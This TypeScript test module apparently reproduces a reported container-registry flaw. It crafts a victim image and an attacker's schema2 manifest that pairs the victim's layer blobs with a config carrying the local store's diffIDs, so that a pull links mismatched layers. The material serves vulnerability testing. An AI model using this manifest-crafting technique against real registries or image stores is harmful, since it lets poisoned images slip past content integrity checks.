/**
 * Issue 12 item 5, as data: the victim image (one the store does not hold) and what an attacker
 * publishes next to it on the same registry: a schema2 manifest listing the victim's layer blobs and
 * a config whose diffIDs are the store's. Pure, so the crafted bytes are tested without a registry.
 */
import { sha256 } from '../digest.ts';
import { imageConfig } from './docker-archive.ts';
import { APPLETS, type ImageSpec, type LayerEntry } from './image-spec.ts';

export const MEDIA = {
  manifest: 'application/vnd.docker.distribution.manifest.v2+json',
  config: 'application/vnd.docker.container.image.v1+json',
  layer: 'application/vnd.docker.image.rootfs.diff.tar.gzip',
} as const;

export interface Descriptor {
  mediaType: string;
  size: number;
  digest: string;
}

export interface Schema2Manifest {
  schemaVersion: 2;
  mediaType: typeof MEDIA.manifest;
  config: Descriptor;
  layers: Descriptor[];
}

/** The file every victim layer adds, and what it says: a container must read the top one. */
export const victimFile = (layer: number) => `victim/layer-${layer}.txt`;
export const victimText = (layer: number) => `the victim's own layer ${layer}\n`;

/**
 * A small image of `layerCount` layers (the store image's count, so the attacker's manifest can
 * pair them one to one) whose every layer differs from the store's: busybox and its applets in the
 * first, one text file per layer.
 */
export function victimImageSpec(options: { repo: string; tag: string; busybox: string; layerCount: number }): ImageSpec {
  if (options.layerCount < 1) throw new RangeError(`a victim image needs at least one layer, not ${options.layerCount}`);
  const base: LayerEntry[] = [
    { kind: 'dir', path: 'bin', mode: 0o755 },
    { kind: 'copy', path: 'bin/busybox', from: options.busybox, mode: 0o755 },
    ...APPLETS.map((name): LayerEntry => ({ kind: 'symlink', path: `bin/${name}`, target: 'busybox' })),
  ];
  const layers = Array.from({ length: options.layerCount }, (_, k): LayerEntry[] => [
    ...(k === 0 ? base : []),
    { kind: 'file', path: victimFile(k + 1), text: victimText(k + 1), mode: 0o644 },
  ]);
  const top = options.layerCount;
  return {
    repo: options.repo,
    tag: options.tag,
    layers,
    expectations: [{ kind: 'sha256', path: `/${victimFile(top)}`, sha256: sha256(victimText(top)), what: 'victim top layer file' }],
  };
}

/** Reads what the attack needs of a pushed manifest, refusing anything but schema2 with sha256 digests. */
export function parseSchema2Manifest(text: string): Schema2Manifest {
  const parsed = JSON.parse(text) as Partial<Schema2Manifest>;
  if (parsed.schemaVersion !== 2 || parsed.mediaType !== MEDIA.manifest) {
    throw new Error(`not a schema2 manifest (schemaVersion ${String(parsed.schemaVersion)}, mediaType ${String(parsed.mediaType)})`);
  }
  const descriptor = (d: Partial<Descriptor> | undefined, what: string): Descriptor => {
    if (!d || typeof d.mediaType !== 'string' || !Number.isSafeInteger(d.size) || d.size! < 0 || !/^sha256:[0-9a-f]{64}$/.test(String(d.digest))) {
      throw new Error(`manifest ${what} is not a descriptor with a sha256 digest: ${JSON.stringify(d)}`);
    }
    return { mediaType: d.mediaType, size: d.size!, digest: d.digest! };
  };
  if (!Array.isArray(parsed.layers)) throw new Error('manifest has no layers array');
  return {
    schemaVersion: 2,
    mediaType: MEDIA.manifest,
    config: descriptor(parsed.config, 'config'),
    layers: parsed.layers.map((l, k) => descriptor(l, `layer ${k}`)),
  };
}

/**
 * The attacker's config: the store image's diffIDs (hex, as BuiltImage.diffIds), so a pull links
 * every layer from the store; its own Cmd so its image ID is not the store image's.
 */
export function attackerConfig(storeDiffIds: readonly string[], architecture: string): string {
  return imageConfig(storeDiffIds, { architecture, cmd: ['/bin/sh', '-c', 'echo attacker'], env: ['PATH=/bin'] });
}

/** The blob descriptor of a config text, as the manifest names it. */
export const configDescriptor = (config: string): Descriptor => ({
  mediaType: MEDIA.config,
  size: Buffer.byteLength(config),
  digest: `sha256:${sha256(config)}`,
});

/**
 * The attacker's manifest: the victim's layer blobs (digest and size, gzip media type), paired by
 * index with a config whose diffIDs are the store's. The counts must agree, or the engine refuses
 * the manifest before anything is linked and the attack proves nothing.
 */
export function craftedManifest(config: Descriptor, victimLayers: readonly Descriptor[], diffIdCount: number): string {
  if (victimLayers.length !== diffIdCount) {
    throw new RangeError(`the victim has ${victimLayers.length} layers and the store image ${diffIdCount}: the manifest must pair them one to one`);
  }
  const manifest: Schema2Manifest = {
    schemaVersion: 2,
    mediaType: MEDIA.manifest,
    config,
    layers: victimLayers.map((l) => ({ mediaType: MEDIA.layer, size: l.size, digest: l.digest })),
  };
  return JSON.stringify(manifest);
}
